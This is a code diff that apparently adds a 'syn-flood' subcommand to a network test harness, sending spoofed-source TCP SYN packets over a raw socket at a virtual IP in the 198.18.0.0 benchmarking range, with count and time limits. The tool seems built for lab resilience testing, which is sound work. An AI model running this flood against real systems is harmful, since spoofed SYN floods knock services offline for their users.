@@ -331,6 +331,32 @@ def cmd_garbage(a):
     return 0
 
 
+def cmd_syn_flood(a):
+    """Spoofed SYNs (random on-link sources, ports and ISNs) at vip:port on a
+    raw socket, bounded by --count and --max-time."""
+    rng = random.Random(a.seed)
+    eth = mac_bytes(a.dst_mac) + mac_bytes(a.src_mac) + b"\x08\x00"
+    lo, hi = (int(x) for x in a.hosts.split("-"))
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    s.bind((a.iface, 0))
+    sent, errors = 0, 0
+    t0 = time.monotonic()
+    while sent + errors < a.count and time.monotonic() - t0 < a.max_time:
+        src = f"{a.prefix}.{rng.randint(lo, hi)}"
+        seg = tcp_seg(src, a.vip, rng.randint(1024, 65535), a.port, rng.getrandbits(32), 0, 0x02)
+        try:
+            s.send(eth + ip_hdr(src, a.vip, 6, len(seg)) + seg)
+            sent += 1
+        except OSError:
+            errors += 1
+            time.sleep(0.001)
+    s.close()
+    secs = time.monotonic() - t0
+    out({"sent": sent, "errors": errors, "seconds": round(secs, 3),
+         "rate": round(sent / secs) if secs > 0 else None})
+    return 0
+
+
 # ---------------------------------------------------------------- http-loop
 def _loop_until(a):
     """(deadline, stop?) for the loop subcommands: --duration caps, --stop-file ends early."""
@@ -801,6 +827,17 @@ def main():
     p.add_argument("--gap", type=float, default=0.002)
     p.add_argument("--max-time", type=float, default=30.0)
     p.add_argument("--seed", type=int, default=1)
+    p = sub.add_parser("syn-flood")
+    p.add_argument("--iface", required=True)
+    p.add_argument("--dst-mac", required=True)
+    p.add_argument("--src-mac", required=True)
+    p.add_argument("--vip", default="198.18.0.100")
+    p.add_argument("--port", type=int, default=80)
+    p.add_argument("--prefix", default="198.18.0", help="first three octets of the spoofed sources")
+    p.add_argument("--hosts", default="151-250", help="last octet range of the spoofed sources")
+    p.add_argument("--count", type=int, default=20000)
+    p.add_argument("--max-time", type=float, default=10.0)
+    p.add_argument("--seed", type=int, default=1)
     p = sub.add_parser("http-loop")
     p.add_argument("host")
     p.add_argument("port", type=int)
@@ -857,7 +894,8 @@ def main():
     p.add_argument("--gap", type=float, default=0.05)
     a = ap.parse_args()
     extra = {"http-loop": cmd_http_loop, "icmp-loop": cmd_icmp_loop, "arp-probe": cmd_arp_probe,
-             "sync-garbage": cmd_sync_garbage, "sync-replay": cmd_sync_replay, "vrrp-forge": cmd_vrrp_forge}
+             "sync-garbage": cmd_sync_garbage, "sync-replay": cmd_sync_replay, "vrrp-forge": cmd_vrrp_forge,
+             "syn-flood": cmd_syn_flood}
     if a.cmd in extra:
         return extra[a.cmd](a)
     return {"probe": cmd_probe, "http-many": cmd_http_many, "http-hold": cmd_http_hold, "udp-many": cmd_udp_many,
